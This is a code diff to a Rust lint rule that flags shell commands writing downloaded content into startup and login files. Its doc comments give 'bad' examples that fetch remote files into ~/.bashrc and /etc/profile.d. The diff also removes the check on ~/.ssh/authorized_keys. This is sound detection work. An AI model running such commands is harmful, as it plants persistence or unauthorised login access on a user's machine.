@@ -18,7 +18,7 @@ rule! {
     /// wget -O ~/.bashrc https://example.org/bashrc
     /// ```
     /// ```sh bad
-    /// curl -s https://example.org/key.pub >> ~/.ssh/authorized_keys
+    /// curl -s https://example.org/unit > /etc/profile.d/unit.sh
     /// ```
     /// ```sh good
     /// curl -fsSL https://example.org/key.asc | sudo tee /etc/apt/keyrings/example.asc
@@ -89,9 +89,6 @@ fn power(path: &str) -> Option<(&'static str, Level)> {
     let home = home?;
     if matches!(home, ".bashrc" | ".bash_profile" | ".profile" | ".zshrc" | ".zprofile" | ".zshenv" | ".bash_login" | ".bash_aliases" | ".kshrc") {
         return Some(("which every new shell runs", Level::Danger));
-    }
-    if home == ".ssh/authorized_keys" || home == ".ssh/authorized_keys2" {
-        return Some(("which says who may log in", Level::Caution));
     }
     if home.starts_with(".config/autostart/") || home.starts_with(".config/systemd/user/") || home.starts_with("Library/LaunchAgents/") {
         return Some(("which starts at every login", Level::Caution));
